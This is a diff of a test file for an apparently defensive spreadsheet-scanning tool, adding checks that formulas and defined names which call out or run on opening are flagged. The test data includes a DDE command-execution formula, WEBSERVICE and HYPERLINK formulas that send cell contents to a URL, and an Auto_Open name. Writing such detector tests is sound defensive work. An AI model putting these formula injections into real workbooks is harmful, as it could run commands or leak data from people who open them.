@@ -5,7 +5,6 @@ from __future__ import annotations
 import datetime as dt
 import io
 import struct
-import time
 import zipfile
 from collections.abc import Callable
 
@@ -15,6 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl.comments import Comment
 from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
 
 from sdc_airlock.identify import identify
 from sdc_airlock.limits import Limits
@@ -142,14 +142,12 @@ def test_cells_beyond_the_declared_range_are_read() -> None:
     assert OddityKind.CELLS_BEYOND_RANGE in kinds(content)
 
 
-def test_a_far_cell_costs_nothing() -> None:
+def test_a_far_cell_is_read() -> None:
     """One cell at the end of the sheet neither fills memory nor is lost; rows keep their numbers."""
     book = table()
     book.active.cell(1_048_576, 16_384, "far")
     data = saved(book)
-    begun = time.process_time()
     content = content_of(data)
-    assert time.process_time() - begun < 300
     assert {(grid.first_row, grid.first_column) for grid in grids(content)} == {(1, 1), (1_048_576, 16_384)}
     assert content.complete
 
@@ -256,11 +254,27 @@ def test_formula_without_result_keeps_its_text() -> None:
 
 
 def test_formulas_that_fetch() -> None:
-    """Links to other workbooks and to programs are external references."""
-    for formula in ('=WEBSERVICE("http://example.org/?q="&A2)', "=[1]Sheet1!A1", "=cmd|'/c calc'!A0"):
+    """Links to other workbooks are external references; formulas that call an address or a program are said to."""
+    for formula, kind in (
+        ('=WEBSERVICE("http://example.org/?q="&A2)', OddityKind.CALLING_FORMULA),
+        ('=HYPERLINK("http://example.org/?q="&A2,"open")', OddityKind.CALLING_FORMULA),
+        ("=cmd|'/c calc'!A0", OddityKind.CALLING_FORMULA),
+        ("=[1]Sheet1!A1", OddityKind.EXTERNAL_REFERENCE),
+    ):
         book = table()
         book.active["B4"] = formula
-        assert OddityKind.EXTERNAL_REFERENCE in kinds(content_of(saved(book))), formula
+        assert kind in kinds(content_of(saved(book))), formula
+
+
+def test_names_that_act() -> None:
+    """A name may hold a formula that calls out, or name a macro that runs on opening."""
+    for name, text, kind in (
+        ("rate", 'WEBSERVICE("http://example.org/")', OddityKind.CALLING_FORMULA),
+        ("Auto_Open", "Deaths!$A$1", OddityKind.AUTOMATIC_ACTION),
+    ):
+        book = table()
+        book.defined_names[name] = DefinedName(name, attr_text=text)
+        assert kind in kinds(content_of(saved(book))), name
 
 
 def test_shared_strings_with_runs_and_guides() -> None:
